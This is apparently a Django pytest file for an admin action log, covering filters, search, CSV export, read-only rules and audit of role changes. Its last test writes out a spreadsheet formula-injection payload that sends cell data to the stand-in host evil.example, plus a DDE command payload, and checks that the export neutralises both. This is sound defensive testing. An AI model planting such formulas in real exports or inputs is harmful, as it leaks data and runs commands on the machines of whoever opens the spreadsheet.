"""The action log in the admin: read-only, filters, search, CSV of the filtered rows; audited users."""

import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone

from accounts.models import ActionLog
from accounts.roles import Role
from accounts.services import action_log_record

pytestmark = pytest.mark.django_db


@pytest.fixture
def log_admin_client(appadmin_client):
    """An appadmin's client, with the action log emptied of the sign-in's own entries."""
    ActionLog.objects.all().delete()
    return appadmin_client


@pytest.fixture
def entries(make_user):
    anna, boris = make_user("anna"), make_user("boris")
    old = action_log_record(
        action="upload", user=anna, object_type="uploads.uploadjob", object_repr="Зима.zip"
    )
    ActionLog.objects.filter(pk=old.pk).update(created_at=timezone.now() - datetime.timedelta(days=10))
    action_log_record(action="export", user=anna, object_type="album", object_repr="Весна 2026")
    action_log_record(action="export", user=boris, object_type="album", object_repr="Лето")
    return anna, boris


def shown(response) -> list[str]:
    return [entry.object_repr for entry in response.context["cl"].result_list]


def test_filters_by_user_action_and_date_range(log_admin_client, entries):
    url = reverse("admin:accounts_actionlog_changelist")
    assert sorted(shown(log_admin_client.get(url, {"username": "anna"}))) == ["Весна 2026", "Зима.zip"]
    assert sorted(shown(log_admin_client.get(url, {"action": "export"}))) == ["Весна 2026", "Лето"]
    week_ago = (timezone.localdate() - datetime.timedelta(days=7)).isoformat()
    recent = shown(log_admin_client.get(url, {"created_at__from": week_ago, "username": "anna"}))
    assert recent == ["Весна 2026"]
    ten_days_ago = (timezone.localdate() - datetime.timedelta(days=10)).isoformat()
    assert shown(log_admin_client.get(url, {"created_at__to": ten_days_ago})) == ["Зима.zip"]


def test_search_by_object(log_admin_client, entries):
    url = reverse("admin:accounts_actionlog_changelist")
    assert shown(log_admin_client.get(url, {"q": "Весна"})) == ["Весна 2026"]
    assert shown(log_admin_client.get(url, {"q": "uploadjob"})) == ["Зима.zip"]


def test_csv_holds_exactly_the_filtered_rows(log_admin_client, entries):
    response = log_admin_client.get(
        reverse("admin:accounts_actionlog_csv"), {"action": "export", "username": "anna"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(row["username"], row["action"], row["object_repr"]) for row in rows] == [
        ("anna", "export", "Весна 2026")
    ]
    assert ActionLog.objects.filter(action="action_log_export", username="appadmin").exists()


def test_the_log_cannot_be_edited_or_deleted(log_admin_client, entries):
    entry = ActionLog.objects.first()
    assert log_admin_client.get(reverse("admin:accounts_actionlog_add")).status_code == 403
    assert (
        log_admin_client.post(
            reverse("admin:accounts_actionlog_delete", args=[entry.pk]), {"post": "yes"}
        ).status_code
        == 403
    )
    assert ActionLog.objects.filter(pk=entry.pk).exists()


def test_changing_a_users_roles_in_the_admin_is_logged(log_admin_client, make_user):
    user = make_user("vera", Role.VIEWER)
    response = log_admin_client.post(
        reverse("admin:auth_user_change", args=[user.pk]),
        {
            "username": "vera",
            "is_active": "on",
            "groups": [Group.objects.get(name=Role.USER.value).pk],
            "date_joined_0": "2026-01-01",
            "date_joined_1": "00:00:00",
            "initial-date_joined_0": "2026-01-01",
            "initial-date_joined_1": "00:00:00",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    entry = ActionLog.objects.get(action="admin_change", object_type="auth.user")
    assert entry.object_id == str(user.pk)
    assert "changes" in entry.details


def test_bad_filter_values_get_no_error_page(log_admin_client, entries):
    url = reverse("admin:accounts_actionlog_changelist")
    assert log_admin_client.get(url, {"created_at__from": "2026-02-30"}).status_code == 200
    assert log_admin_client.get(url, {"created_at__to": "yesterday"}).status_code == 200
    response = log_admin_client.get(reverse("admin:accounts_actionlog_csv"), {"no_such_field__gte": "1"})
    assert response.status_code == 302
    assert response["Location"].endswith("?e=1")


def test_csv_never_hands_a_formula_to_the_spreadsheet(client, app_admin):
    hostile = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    client.post(reverse("accounts:login"), {"username": hostile, "password": "wrong"})
    action_log_record(action="export", object_type="album", object_repr="+cmd|' /C calc'!A0")
    client.force_login(app_admin)
    text = b"".join(client.get(reverse("admin:accounts_actionlog_csv")).streaming_content)
    rows = list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))
    assert "'" + hostile in [row["username"] for row in rows]
    assert "'+cmd|' /C calc'!A0" in [row["object_repr"] for row in rows]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
